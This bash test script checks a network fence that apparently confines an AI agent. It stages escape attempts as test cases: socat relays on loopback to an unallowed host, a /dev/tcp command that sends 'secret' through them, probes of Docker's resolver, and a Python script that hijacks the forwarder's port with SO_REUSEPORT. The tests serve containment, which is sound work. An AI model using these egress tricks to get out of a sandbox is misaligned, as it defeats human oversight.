#!/bin/bash
# | A service of another user on loopback that relays; root's too | relays | open, but what it sends is refused | chain egress: whoever sends |
# | Docker's resolver at 127.0.0.11, on the random port it has there | answers | refused, but by `resolvers`, which allows DNS | chain egress, its beginning |
# | Taking the forwarder's port (SO_REUSEPORT, wildcards, both protocols) | taken | in use | the forwarder's own sockets |
. "${0%/*}/lib.sh"

relay() { # UID PORT: to a host that nobody allowed
	(exec nsenter --net=/run/netns/client -- setpriv --reuid="$1" --regid="$1" --clear-groups -- \
		socat "TCP4-LISTEN:$2,bind=127.0.0.1,fork,reuseaddr" UDP4-SENDTO:203.0.113.11:2001) &
	busywait 5000 in_client ss -Hlnt "src 127.0.0.1:$2"
}
relay 0 4000
relay 2000 4001
# shellcheck disable=SC2016 # the agent's shell expands it
tell='for port in 4000 4001; do echo secret >/dev/tcp/127.0.0.1/$port && echo "$port took it"; done; sleep 0.3'
way 'relays on loopback' "$BASH" -c "$tell"
stance resolvers
fenced "$BASH" -c "$tell" >log 2>&1
check 'loopback itself is open' says log '^4001 took it'
no_fence

# Docker's: its socket has the address, and a port that nobody is told but /proc/net/udp.
in_client "$PEERS/echo" 127.0.0.11 40011 &
busywait 5000 in_client "$PEERS/probe" open udp 127.0.0.11 40011 500
answers() { says <("$@" "$PEERS/probe" open udp 127.0.0.11 40011 500) '^open'; }
check 'unfenced: 127.0.0.11 answers on its other port' answers unfenced
stance resolvers
check 'resolvers: it does, as all DNS does there' answers fenced
for stance in pinned guarded none; do
	stance "$stance"
	for protocol in udp tcp; do
		check "$stance: 127.0.0.11 is refused, $protocol" \
			fenced "$PEERS/probe" refused $protocol 127.0.0.11 40011 500
	done
done

# Where the forwarder listens, and whatever covers that.
cat >steal.py <<-'END'
	import socket as s
	for family, addr in ((s.AF_INET, "127.0.0.1"), (s.AF_INET, "0.0.0.0"), (s.AF_INET6, "::1"), (s.AF_INET6, "::")):
	    for kind in (s.SOCK_DGRAM, s.SOCK_STREAM):
	        fd = s.socket(family, kind)
	        fd.setsockopt(s.SOL_SOCKET, s.SO_REUSEADDR, 1)
	        fd.setsockopt(s.SOL_SOCKET, s.SO_REUSEPORT, 1)
	        try:
	            fd.bind((addr, 7753))
	            if kind == s.SOCK_STREAM:
	                fd.listen()
	            print("taken", addr, kind)
	        except OSError as error:
	            print("refused", addr, error)
	        fd.close()
END
unfenced python3 steal.py >log
check 'unfenced: the port is free on all eight' same "$(grep -c ^taken log)" 8
stance guarded
fenced python3 "$WORK/steal.py" >log 2>&1
check 'guarded: the agent tried eight' same "$(grep -cE '^(taken|refused)' log)" 8
check 'guarded: it gets none of them' not grep ^taken log
